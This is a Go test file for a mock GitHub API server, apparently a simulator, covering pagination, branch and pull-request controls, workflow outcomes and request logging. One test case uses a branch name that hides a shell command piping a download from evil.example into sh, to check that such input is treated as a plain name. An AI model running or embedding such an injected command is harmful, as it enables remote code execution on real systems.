package github

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	gh "github.com/google/go-github/v60/github"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestMoreRepositories(t *testing.T) {
	p := start(t, t.TempDir())
	ctx := context.Background()
	for i := range 114 {
		made := p.post("repo", map[string]any{"name": fmt.Sprintf("more-%d", i), "team": "identity", "files": map[string]string{"catalog-info.yaml": "kind: Component\n"}})
		require.Equal(t, true, made["ok"], made)
	}
	assert.Equal(t, "name already exists on this account", p.post("repo", map[string]any{"name": "more-1"})["error"])
	o := &gh.RepositoryListByOrgOptions{ListOptions: gh.ListOptions{PerPage: 100}}
	first, answer, err := p.client.Repositories.ListByOrg(ctx, "acme", o)
	require.NoError(t, err)
	assert.Len(t, first, 100)
	assert.Equal(t, 2, answer.NextPage)
	o.Page = 2
	second, _, err := p.client.Repositories.ListByOrg(ctx, "acme", o)
	require.NoError(t, err)
	assert.Len(t, second, 20)
	require.Equal(t, true, p.post("repo", map[string]any{"name": "tenders", "like": "payments"})["ok"])
	push := p.post("push", map[string]any{"repo": "acme/tenders", "message": "Begin"})
	require.Equal(t, true, push["ok"], push)
	assert.Len(t, push["run_ids"], 1)
	again, _ := p.reopen()
	assert.NotNil(t, again.st.repo("acme/tenders"))
}

func TestLeapOfYears(t *testing.T) {
	p := start(t, "")
	p.after(10 * 365 * 24 * time.Hour)
	p.Now()
	assert.Less(t, len(p.st.runOrder), 20_000)
	r := p.st.repo("acme/payments")
	assert.WithinDuration(t, p.Now(), r.runs[len(r.runs)-1].created, 24*time.Hour)
}

func TestTheWorldCanBeChanged(t *testing.T) {
	p := start(t, "")
	ctx := context.Background()
	for _, c := range []struct {
		path string
		body map[string]any
		err  string
	}{
		{"branch", map[string]any{"repo": "acme/payments", "name": "$(curl${IFS}evil.example|sh)"}, "reference"},
		{"branch", map[string]any{"repo": "acme/payments", "name": "<!channel>"}, ""},
		{"branch", map[string]any{"repo": "acme/payments", "name": "two words"}, "git allows no branch"},
		{"branch", map[string]any{"repo": "acme/payments", "name": "x", "from": "nope"}, "no ref found for: nope"},
		{"branch", map[string]any{"repo": "acme/nope", "name": "x"}, "no such repository"},
		{"branch", map[string]any{"repo": "acme/payments", "name": "nope", "delete": true}, "reference does not exist"},
		{"branch", map[string]any{"repo": "acme/payments", "tag": "v1.0.0"}, ""},
		{"pull", map[string]any{"repo": "acme/payments", "head": "broken-migration"}, ""},
		{"pull", map[string]any{"repo": "acme/payments", "head": "nope"}, "head and base have to be branches"},
		{"pull", map[string]any{"repo": "acme/payments", "number": 482, "state": "closed"}, ""},
		{"pull", map[string]any{"repo": "acme/payments", "number": 483, "merge": true, "author": "bob"}, ""},
		{"pull", map[string]any{"repo": "acme/payments", "number": 7}, "no pull request #7"},
		{"run", map[string]any{"repo": "acme/payments", "workflow": "nope.yml"}, "no workflow"},
		{"outcome", map[string]any{"repo": "acme/payments", "conclusion": "splendid"}, "none of"},
		{"outcome", map[string]any{"conclusion": "failure"}, "repo is missing"},
		{"approve", map[string]any{"run_id": 7}, "no such run"},
		{"approve", map[string]any{"repo": "acme/platform"}, "no such run"},
		{"variable", map[string]any{"repo": "acme/platform", "name": "bellhop_actor", "value": "someone"}, ""},
		{"artifact", map[string]any{"artifact_id": 7, "delete": true}, "no artifact 7"},
		{"artifact", map[string]any{"artifact_id": 7}, "say either"},
		{"options", map[string]any{"nonsense": 7}, "unknown field"},
	} {
		got := p.post(c.path, c.body)
		if c.err == "" || c.err == "reference" {
			assert.Equal(t, true, got["ok"], "%s %v: %v", c.path, c.body, got)
			continue
		}
		assert.Equal(t, false, got["ok"], "%s %v", c.path, c.body)
		assert.Contains(t, got["error"], c.err)
	}
	closed, _, err := p.client.PullRequests.Get(ctx, "acme", "payments", 482)
	require.NoError(t, err)
	assert.Equal(t, "closed", closed.GetState())
	merged, _, err := p.client.PullRequests.Get(ctx, "acme", "payments", 483)
	require.NoError(t, err)
	assert.True(t, merged.GetMerged())
	tags, _, err := p.client.Repositories.ListTags(ctx, "acme", "payments", nil)
	require.NoError(t, err)
	require.Len(t, tags, 1)
	v, _, err := p.client.Actions.GetRepoVariable(ctx, "acme", "platform", "BELLHOP_ACTOR")
	require.NoError(t, err)
	assert.Equal(t, "someone", v.Value)
	answer, err := http.Post(p.url+"/_control/github/push", "application/json", strings.NewReader("{"))
	require.NoError(t, err)
	require.NoError(t, answer.Body.Close())
	assert.Equal(t, http.StatusBadRequest, answer.StatusCode)
}

func TestEveryConclusion(t *testing.T) {
	p := start(t, "")
	for _, c := range []string{"cancelled", "skipped", "timed_out", "action_required", "neutral", "stale", "startup_failure"} {
		p.post("outcome", map[string]any{"repo": "acme/payments", "ref": "feature-x", "conclusion": c, "times": 1})
		id := p.deploy("feature-x", "deploy")
		p.after(2 * tick)
		r := p.runNow(id)
		assert.Equal(t, "completed", r.GetStatus(), c)
		assert.Equal(t, c, r.GetConclusion())
	}
	p.post("outcome", map[string]any{"repo": "acme/payments", "ref": "feature-x", "conclusion": "queued", "times": 1})
	id := p.deploy("feature-x", "deploy")
	p.after(time.Hour)
	assert.Equal(t, "queued", p.runNow(id).GetStatus())
	p.post("outcome", map[string]any{"repo": "acme/payments", "ref": "feature-y", "conclusion": "failure", "times": 1})
	id = p.deploy("feature-y", "deploy")
	p.after(20 * tick)
	assert.Equal(t, "failure", p.runNow(id).GetConclusion())
	p.post("outcome", map[string]any{"repo": "acme/payments", "ref": "feature-y", "step": "build image", "conclusion": "hang", "times": 1})
	id = p.deploy("feature-y", "deploy")
	p.after(29 * time.Minute)
	assert.Equal(t, "in_progress", p.runNow(id).GetStatus())
	p.after(2 * time.Minute)
	assert.Equal(t, "cancelled", p.runNow(id).GetConclusion(), "timeout-minutes: 30")
}

func TestTheLogTellsEverything(t *testing.T) {
	p := start(t, "")
	p.deploy("feature-x", "deploy")
	_, _ = p.raw("GET", "/rate_limit", "ghp_demo", "")
	_, _ = p.raw("GET", "/user", "ghp_wrong", "")
	answer, body := p.raw("GET", "/_control/github/log?after=1", "", "")
	assert.Equal(t, http.StatusOK, answer.StatusCode)
	assert.Contains(t, body, `"path":"/rate_limit","login":"bellhop","status":200,"counted":false`)
	assert.Contains(t, body, `"path":"/user","status":401,"counted":false`)
	require.Len(t, p.calls, 3)
	first := p.calls[0]
	assert.True(t, first.Counted)
	assert.Contains(t, first.Body, "bellhop_id")

	// A long poll ends with the next call.
	done := make(chan string, 1)
	go func() {
		_, body := p.raw("GET", "/_control/github/log?after=3&wait=20", "", "")
		done <- body
	}()
	_, _ = p.raw("GET", "/repos/acme/cart", "ghp_demo", "")
	select {
	case body := <-done:
		assert.Contains(t, body, "/repos/acme/cart")
	case <-time.After(15 * time.Second):
		t.Fatal("the poll did not end")
	}
}
